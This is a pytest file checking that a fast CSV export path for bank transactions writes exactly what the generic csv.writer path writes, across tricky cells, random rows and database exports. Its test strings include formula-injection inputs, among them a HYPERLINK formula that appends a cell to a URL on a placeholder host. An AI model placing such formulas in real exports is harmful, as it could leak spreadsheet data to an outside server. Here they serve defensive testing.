"""The CSV fast path (`CsvLines` over raw rows) writes exactly what the generic path writes.

The generic path is `CsvFormat.write` over formatted row tuples (`csv.writer`);
every test here puts the two side by side: tricky cells, random cells
(hypothesis), rows of unexpected types, and whole exports through the task on
SQLite and PostgreSQL.
"""

from __future__ import annotations

import io
import threading
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, BinaryIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from core import hookimpl
from core.db import to_micros
from core.models import Account, Transaction, User
from plugins.export import COLUMNS, CsvFormat, export_transaction_data
from plugins.export import csvlines as csvlines_module
from plugins.export.csvlines import CsvLines, text_cell
from plugins.export.rows import ExportRows, format_row, read_ahead

MIN_US = to_micros(datetime(1, 1, 1, tzinfo=UTC))
MAX_US = to_micros(datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC))
TRICKY_TEXTS = [
    "",
    "plain",
    "=1+2",
    "+44 20",
    "-minus",
    "@SUM(A1)",
    "\tTab first",
    "\rCR first",
    "\r\nCRLF first",
    "a,b",
    'say "hi"',
    '"',
    '=HYPERLINK("http://x.example/?q="&A1, "click")',
    "line\nbreak",
    "cr\rinside",
    "crlf\r\ninside",
    "ünïcødé — € 😀",
    " =space first is not a trigger",
    "trailing comma,",
    "'already quoted",
    "nul\x00inside",
    "\x0bvertical tab",
]


def generic(raw_rows: Iterable[tuple[Any, ...]]) -> str:
    """What the generic path writes for `raw_rows`, header line removed."""
    out = io.BytesIO()
    CsvFormat().write(list(COLUMNS), (format_row(raw) for raw in raw_rows), out)
    text_ = out.getvalue().decode("utf-8")
    return text_[text_.index("\r\n") + 2 :]


def fast(raw_rows: list[tuple[Any, ...]], batch: int = 1000) -> str:
    """What `CsvLines` writes for `raw_rows`, fed in batches of `batch` rows."""
    lines = CsvLines()
    return "".join(lines.lines(raw_rows[i : i + batch]) for i in range(0, len(raw_rows), batch))


def raw(
    tid: int = 1,
    at: datetime | float = datetime(2024, 1, 1, tzinfo=UTC),
    number: Any = "401234567890",
    kind: Any = "payment",
    status: Any = "completed",
    cents: Any = 1234,
    currency: Any = "USD",
    counterparty: Any = "ACME",
    description: Any = None,
) -> tuple[Any, ...]:
    created = to_micros(at) if isinstance(at, datetime) else at
    return (tid, created, number, kind, status, cents, currency, counterparty, description)


def test_fast_csv_tricky_text_cells_match_generic() -> None:
    rows = [
        raw(
            i,
            datetime(2024, 1, 1, tzinfo=UTC) + timedelta(seconds=i),
            kind=t,
            status=t,
            currency=t,
            counterparty=t,
            description=t,
        )
        for i, t in enumerate(TRICKY_TEXTS)
    ]
    rows += [raw(100, counterparty=None, description=None), raw(101, description="")]
    assert fast(rows) == generic(rows)


@pytest.mark.parametrize(
    "cents",
    [0, 1, 5, 99, 100, 1_000_001, 10**12, 10**12 + 7, 2**63 - 1, -1, -5, -100, -(10**12), -(2**63)],
)
def test_fast_csv_amounts_match_generic(cents: int) -> None:
    rows = [raw(cents=cents)]
    assert fast(rows) == generic(rows)


@pytest.mark.parametrize(
    "at",
    [
        datetime(2024, 1, 1, tzinfo=UTC),  # midnight, 0 microseconds
        datetime(2024, 1, 31, 23, 59, 59, 999999, tzinfo=UTC),
        datetime(2024, 2, 29, 12, 0, 0, 1, tzinfo=UTC),
        datetime(1969, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),  # negative epoch micros
        datetime(1970, 1, 1, tzinfo=UTC),
        datetime(999, 6, 15, 8, 5, 3, 20, tzinfo=UTC),  # year < 1000
        datetime(1, 1, 1, tzinfo=UTC),
        datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
    ],
)
def test_fast_csv_timestamps_match_generic(at: datetime) -> None:
    rows = [raw(at=at)]
    assert fast(rows) == generic(rows)


def test_fast_csv_day_and_minute_boundaries_across_batches() -> None:
    start = datetime(2023, 12, 31, 23, 58, tzinfo=UTC)
    steps = [0, 1, 59_999_999, 60_000_000, 119_999_999, 120_000_000, 86_400_000_000]
    rows = [raw(i, to_micros(start) + step) for i, step in enumerate(steps)]
    rows += list(reversed(rows))  # out of order: the caches must not assume order
    assert fast(rows, batch=2) == generic(rows)


@pytest.mark.parametrize(
    "number", ["401234567890", "12", "", "12,34", '1"234', "12\n34", "=1234", "ünï1"]
)
def test_fast_csv_masked_account_matches_generic(number: str) -> None:
    rows = [raw(number=number), raw(2, number=number)]
    assert fast(rows) == generic(rows)


def test_fast_csv_unexpected_types_are_written_the_generic_way() -> None:
    rows = [
        raw(1, counterparty=b"blob,cell", description=b"x"),
        raw(2, kind=b"payment"),
        raw(3, number=None),
        raw(4, at=float(to_micros(datetime(2024, 1, 1, 0, 0, 1, tzinfo=UTC)))),
        raw(5, description=7),
        raw(6),  # a plain row after them: caches still right
    ]
    assert fast(rows) == generic(rows)


def test_fast_csv_raises_where_generic_raises() -> None:
    rows = [raw(cents=12.5)]
    with pytest.raises(ValueError) as generic_error:
        generic(rows)
    with pytest.raises(ValueError) as fast_error:
        fast(rows)
    assert str(fast_error.value) == str(generic_error.value)


def test_fast_csv_memo_starts_over_when_full(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csvlines_module, "MEMO_MAX", 3)
    rows = [raw(i, number=f"40{i % 7}", counterparty=f"=party {i % 11}") for i in range(200)]
    lines = CsvLines()
    assert "".join(lines.lines(rows[i : i + 10]) for i in range(0, 200, 10)) == generic(rows)
    assert len(lines.cells) <= 3 + 4 and len(lines.accounts) <= 3 + 1


TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("=+-@\t\r\n,\"' a1é€")), st.characters(blacklist_categories=["Cs"])
    ),
    max_size=12,
)
CELL = st.one_of(st.none(), TEXT)
RAW_ROW = st.tuples(
    st.integers(min_value=1, max_value=2**63 - 1),
    st.integers(min_value=MIN_US, max_value=MAX_US),
    TEXT,
    TEXT,
    TEXT,
    st.integers(min_value=-(10**15), max_value=10**15),
    TEXT,
    CELL,
    CELL,
)


@settings(max_examples=300, deadline=None)
@given(st.lists(RAW_ROW, max_size=12), st.integers(min_value=1, max_value=5), st.booleans())
def test_fast_csv_random_rows_match_generic(
    rows: list[tuple[Any, ...]], batch: int, in_time_order: bool
) -> None:
    if in_time_order:
        rows.sort(key=lambda r: (r[1], r[0]))
    assert fast(rows, batch) == generic(rows)


@given(st.one_of(st.none(), TEXT, st.binary(max_size=6), st.integers(), st.floats()))
def test_text_cell_is_the_csv_writer_cell(value: Any) -> None:
    assert fast([raw(counterparty=value, description=value)]) == generic(
        [raw(counterparty=value, description=value)]
    )
    line = generic([raw(description=value)])
    assert line.endswith("," + text_cell(value) + "\r\n")


# --------------------------------------------------------------------------- through the task


class GenericCsv:
    """The built-in CSV format fed through a plain generator: always the generic path."""

    name = "csvgeneric"
    extension = "csv"
    media_type = "text/csv"

    def write(self, columns: list[str], rows: Iterable[tuple], out: BinaryIO) -> None:
        CsvFormat().write(columns, (row for row in rows), out)


class GenericCsvPlugin:
    name = "generic_csv"

    @hookimpl
    def register_export_formats(self) -> list[Any]:
        return [GenericCsv()]


def _fill(app: Any, days: list[date]) -> None:
    """A user with two accounts and tricky transactions on each of `days`."""
    with app.runtime.db.session() as s:
        s.add(User(id=1, email="user1@example.com", full_name="Ada"))
        s.add(Account(id=1, user_id=1, number="401234567890"))
        s.add(Account(id=2, user_id=1, number='40,2"34'))
        s.add(User(id=2, email="user2@example.com", full_name="Bob"))
        s.add(Account(id=3, user_id=2, number="409999999999"))
        s.flush()
        i = 0
        for day in days:
            midnight = datetime.combine(day, datetime.min.time(), tzinfo=UTC)
            for offset in (
                timedelta(0),
                timedelta(microseconds=1),
                timedelta(hours=12, seconds=1),
                timedelta(days=1, microseconds=-1),
            ):
                for text_ in TRICKY_TEXTS[i % len(TRICKY_TEXTS) :][:3]:
                    i += 1
                    if "\x00" in text_ and app.runtime.db.dialect == "postgresql":
                        continue  # PostgreSQL text cannot hold NUL
                    s.add(
                        Transaction(
                            account_id=1 + i % 3,
                            amount=Decimal(i * 1013) / 100 + (10**10 if i % 5 == 0 else 0),
                            kind="payment" if i % 2 else "deposit",
                            status="completed" if i % 3 else "pending",
                            counterparty=text_ if i % 4 else None,
                            description=None if i % 3 == 0 else text_[:500],
                            created_at=midnight + offset,
                        )
                    )
    first = datetime.combine(days[0], datetime.min.time(), tzinfo=UTC)
    with app.runtime.db.engine.begin() as conn:  # what only raw SQL can store
        conn.execute(
            text(
                "INSERT INTO transactions (account_id, amount_minor, currency, kind, status, "
                "counterparty, description, created_at, updated_at) VALUES "
                "(1, -505, 'USD', 'fee', 'reversed', :blob, '=neg', :at, :at)"
            ),
            {
                "blob": b"bytes, not text" if app.runtime.db.dialect == "sqlite" else "x",
                "at": to_micros(first + timedelta(hours=3)),
            },
        )


def _export_both(app: Any, start: date, end: date) -> tuple[dict[str, Any], dict[str, Any]]:
    fast_result = export_transaction_data(user_id=1, start_date=start, end_date=end)
    generic_result = export_transaction_data(
        user_id=1, start_date=start, end_date=end, export_format="csvgeneric"
    )
    return fast_result, generic_result


@pytest.fixture
def spy_fast_path(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Counts the raw batches the fast path formats."""
    seen: list[int] = []
    real = CsvLines.lines

    def lines(self: CsvLines, batch: list[tuple[Any, ...]]) -> str:
        seen.append(len(batch))
        return real(self, batch)

    monkeypatch.setattr(CsvLines, "lines", lines)
    return seen


def test_fast_csv_task_on_sqlite_writes_the_generic_bytes(
    make_app: Any, spy_fast_path: list[int]
) -> None:
    app = make_app("export", GenericCsvPlugin())
    days = [date(2024, 2, 28), date(2024, 2, 29), date(2024, 3, 1)]
    _fill(app, days)
    fast_result, generic_result = _export_both(app, days[0], days[-1])
    fast_bytes = Path(fast_result["path"]).read_bytes()
    assert fast_bytes == Path(generic_result["path"]).read_bytes()
    assert fast_result["rows"] == generic_result["rows"] == sum(spy_fast_path) > 10
    assert b"b'bytes, not text'" in fast_bytes and b"'-5.05" in fast_bytes
    assert b"9999999999" not in fast_bytes  # the other user's account


def test_fast_csv_task_before_year_1000(make_app: Any, spy_fast_path: list[int]) -> None:
    app = make_app("export", GenericCsvPlugin())
    days = [date(999, 12, 31), date(1000, 1, 1)]
    _fill(app, days)
    fast_result, generic_result = _export_both(app, days[0], days[-1])
    fast_bytes = Path(fast_result["path"]).read_bytes()
    assert fast_bytes == Path(generic_result["path"]).read_bytes()
    assert b",0999-12-31T23:59:59.999999+00:00," in fast_bytes
    assert spy_fast_path


def test_fast_csv_empty_export_is_the_header(make_app: Any) -> None:
    app = make_app("export", GenericCsvPlugin())
    _fill(app, [date(2024, 1, 1)])
    fast_result, generic_result = _export_both(app, date(2023, 1, 1), date(2023, 1, 2))
    assert fast_result["rows"] == 0
    data = Path(fast_result["path"]).read_bytes()
    assert (
        data == Path(generic_result["path"]).read_bytes() == (",".join(COLUMNS) + "\r\n").encode()
    )


def test_csv_format_uses_the_generic_path_for_rows_already_read(make_app: Any) -> None:
    """A format that reads some rows and hands the rest to CsvFormat still gets them all right."""
    app = make_app("export")
    _fill(app, [date(2024, 1, 1)])
    start_us, end_us = (
        to_micros(datetime(2024, 1, 1, tzinfo=UTC)),
        to_micros(datetime(2024, 1, 2, tzinfo=UTC)),
    )
    with app.runtime.db.engine.connect() as conn:
        everything = list(ExportRows(conn, 1, start_us, end_us))
        rows = ExportRows(conn, 1, start_us, end_us)
        first = next(rows)
        out = io.BytesIO()
        CsvFormat().write(list(COLUMNS), rows, out)
        assert rows.count == len(everything)
        with pytest.raises(RuntimeError):
            rows.raw_batches()
    expected = io.BytesIO()
    CsvFormat().write(list(COLUMNS), iter(everything[1:]), expected)
    assert first == everything[0]
    assert out.getvalue() == expected.getvalue()


@pytest.mark.postgres
def test_fast_csv_task_on_postgresql_writes_the_generic_bytes(
    make_app: Any, pg_database_url: str, spy_fast_path: list[int]
) -> None:
    app = make_app("export", GenericCsvPlugin(), database_url=pg_database_url)
    days = [date(2024, 2, 29), date(2024, 3, 1)]
    _fill(app, days)
    fast_result, generic_result = _export_both(app, days[0], days[-1])
    assert Path(fast_result["path"]).read_bytes() == Path(generic_result["path"]).read_bytes()
    assert fast_result["rows"] == generic_result["rows"] == sum(spy_fast_path) > 10


# -------------------------------------------------------------------- read-ahead (PostgreSQL)


def test_read_ahead_keeps_order_and_raises_the_source_error() -> None:
    def source() -> Iterator[int]:
        yield from range(50)
        raise LookupError("connection lost")

    seen: list[int] = []
    with pytest.raises(LookupError, match="connection lost"):
        seen.extend(read_ahead(source()))
    assert seen == list(range(50))


def test_read_ahead_closed_early_stops_its_thread() -> None:
    produced: list[int] = []

    def source() -> Iterator[int]:
        for i in range(1000):
            produced.append(i)
            yield i

    reader = read_ahead(source(), depth=2)
    assert [next(reader), next(reader)] == [0, 1]
    reader.close()
    assert not [t for t in threading.enumerate() if t.name == "export-read-ahead"]
    assert len(produced) <= 2 + 2 + 1  # read: 2, queued: 2, one being put


def _many_rows(app: Any, count: int) -> None:
    with app.runtime.db.session() as s:
        s.add(User(id=1, email="user1@example.com", full_name="Ada"))
        s.add(Account(id=1, user_id=1, number="401234567890"))
    start = to_micros(datetime(2024, 1, 1, tzinfo=UTC))
    with app.runtime.db.engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO transactions (account_id, amount_minor, currency, kind, status, "
                "counterparty, description, created_at, updated_at) VALUES "
                "(1, :cents, 'USD', 'payment', 'completed', :party, :note, :at, :at)"
            ),
            [
                {
                    "cents": 100 + i,
                    "party": ["ACME", "=x", None, 'a "b", c'][i % 4],
                    "note": f"note {i}\n" if i % 3 else None,
                    "at": start + i * 7_777_777,
                }
                for i in range(count)
            ],
        )


@pytest.mark.postgres
def test_fast_csv_on_postgresql_many_batches_read_ahead(
    make_app: Any, pg_database_url: str, spy_fast_path: list[int]
) -> None:
    app = make_app("export", GenericCsvPlugin(), database_url=pg_database_url)
    _many_rows(app, 2500)
    fast_result, generic_result = _export_both(app, date(2024, 1, 1), date(2024, 1, 31))
    assert Path(fast_result["path"]).read_bytes() == Path(generic_result["path"]).read_bytes()
    assert fast_result["rows"] == 2500 and spy_fast_path == [1000, 1000, 500]


@pytest.mark.postgres
def test_fast_csv_on_postgresql_failing_write_stops_reading(
    make_app: Any, pg_database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = make_app("export", database_url=pg_database_url)
    _many_rows(app, 4500)
    real = CsvLines.lines
    calls: list[int] = []

    def lines(self: CsvLines, batch: list[tuple[Any, ...]]) -> str:
        calls.append(1)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real(self, batch)

    monkeypatch.setattr(CsvLines, "lines", lines)
    with pytest.raises(OSError, match="No space left"):
        export_transaction_data(user_id=1, start_date="2024-01-01", end_date="2024-01-31")
    assert not [t for t in threading.enumerate() if t.name == "export-read-ahead"]
    monkeypatch.setattr(CsvLines, "lines", real)
    result = export_transaction_data(user_id=1, start_date="2024-01-01", end_date="2024-01-31")
    assert result["rows"] == 4500
